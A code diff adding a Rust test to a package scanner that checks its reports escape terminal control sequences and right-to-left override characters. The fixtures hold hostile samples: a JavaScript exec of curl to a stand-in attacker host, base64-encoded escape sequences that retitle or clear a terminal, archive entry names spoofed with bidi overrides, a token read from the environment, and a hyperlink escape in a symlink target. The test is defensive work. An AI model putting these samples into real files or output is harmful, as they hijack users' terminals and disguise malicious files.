@@ -186,3 +186,107 @@ fn computed_env_reads_are_reported_with_their_candidates() {
         .expect("a dynamic read");
     assert_eq!(read.category.as_str(), "env");
 }
+
+/// Every string of a report that came out of the scanned files, for the terminal test.
+fn printed_fields(report: &ScanReport) -> Vec<String> {
+    let mut fields = Vec::new();
+    for i in &report.indicators {
+        fields.push(i.value.clone());
+        for e in i.samples() {
+            fields.push(e.file.clone());
+            fields.push(e.excerpt.clone());
+            fields.extend(e.section.clone());
+            fields.extend(e.chain.iter().cloned());
+        }
+    }
+    for s in &report.skipped {
+        fields.push(s.path.clone());
+        fields.push(s.reason.clone());
+    }
+    fields
+}
+
+/// A terminal never gets a control character or a bidirectional override from a report:
+/// not from an encoded blob's preview, a command in a string, an excerpt, a file's name,
+/// an archive entry's name or a link's target. They are written as escapes (`\x1b`,
+/// `\u{202e}`).
+#[test]
+fn indicator_fields_never_carry_terminal_controls() {
+    use base64::Engine as _;
+    // Escape sequences and noise, base64-encoded: a blob whose preview is its decoded
+    // bytes. (With a bidi override in it, it would be an `invisible` indicator.)
+    let hostile: Vec<u8> = b"\x1b]0;owned\x07\x1b[2J\x1b[1;1H\xc2\x9b31m"
+        .iter()
+        .copied()
+        .chain((0u8..48).map(|i| i.wrapping_mul(37) ^ 0x1b))
+        .collect();
+    let blob = base64::engine::general_purpose::STANDARD.encode(&hostile);
+    let js = format!(
+        "const payload = \"{blob}\";\nchild_process.exec(\"curl evil.example \x1b[2K\x1b[1A\");\n\
+         const s = \"a\u{202e}b\"; const t = \"\x1b[31mred\";\n"
+    );
+    let mut tar = tar::Builder::new(Vec::new());
+    for (name, data) in [
+        (
+            "package/\x1b[2Jclear.js",
+            b"fetch('https://a.example/x')".to_vec(),
+        ),
+        (
+            "package/read\u{202e}me.js",
+            b"process.env.ACME_TOKEN".to_vec(),
+        ),
+    ] {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(data.len() as u64);
+        header.set_mode(0o644);
+        tar.append_data(&mut header, name, &data[..])
+            .expect("append an entry");
+    }
+    let mut header = tar::Header::new_gnu();
+    header.set_entry_type(tar::EntryType::Symlink);
+    header.set_size(0);
+    tar.append_link(
+        &mut header,
+        "package/link",
+        "\x1b]8;;https://evil.example\x07x",
+    )
+    .expect("append a link");
+    let tar = tar.into_inner().expect("finish the tar");
+    let report = scan_files(&[
+        ("lib/\u{202e}sj.evil.js", js.as_bytes()),
+        ("release.tar", &tar),
+    ]);
+    assert!(
+        report
+            .indicators
+            .iter()
+            .any(|i| i.kind == Kind::EncodedBlob),
+        "{:#?}",
+        report.indicators
+    );
+    let fields = printed_fields(&report);
+    let raw: Vec<&String> = fields
+        .iter()
+        .filter(|f| f.chars().any(candor_scan::printable::is_unsafe))
+        .collect();
+    assert!(raw.is_empty(), "{raw:#?}");
+    // Escaped, not dropped: what was there can still be read.
+    let all = fields.join("\n");
+    for escape in ["\\x1b]0;owned\\x07", "\\u{202e}", "\\x1b[2J"] {
+        assert!(all.contains(escape), "{escape} in {all}");
+    }
+    assert!(
+        report
+            .indicators
+            .iter()
+            .any(|i| i.value == "exec curl evil.example \\x1b[2K\\x1b[1A"),
+        "{:#?}",
+        report.indicators
+    );
+    assert!(
+        report
+            .indicators
+            .iter()
+            .any(|i| i.evidence.file == "lib/\\u{202e}sj.evil.js")
+    );
+}
